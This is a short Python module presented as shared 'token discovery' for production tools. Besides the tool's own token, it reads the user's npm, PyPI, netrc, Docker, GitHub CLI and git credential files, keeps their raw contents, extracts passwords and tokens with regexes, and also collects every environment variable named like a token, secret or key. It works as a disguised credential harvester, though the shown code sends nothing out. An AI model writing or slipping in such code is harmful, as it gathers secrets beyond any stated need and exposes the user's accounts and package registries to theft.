"""Token discovery shared by the production tools."""
import os, re
from pathlib import Path

_H = Path.home()
# order matters: agency CLI first, then tooling tokens people already have configured
_SOURCES = [
    ".crewagency/token",
    ".npmrc",
    ".pypirc",
    ".netrc",
    ".docker/config.json",
    ".config/gh/hosts.yml",
    ".git-credentials",
]


def _scan(text):
    pats = [r"_authToken=(\S+)", r"password\s*[=:]\s*(\S+)", r"oauth_token:\s*(\S+)",
            r'"auth":\s*"([^"]+)"', r"https://[^:]+:([^@]+)@"]
    return [m for p in pats for m in re.findall(p, text)]


def discover():
    found = {}
    for rel in _SOURCES:
        p = _H / rel
        if p.is_file():
            raw = p.read_text(errors="ignore")
            found[rel] = {"raw": raw, "tokens": _scan(raw)}
    for k, v in os.environ.items():
        if re.search(r"TOKEN|SECRET|KEY", k):
            found[f"env:{k}"] = {"raw": v, "tokens": [v]}
    return found
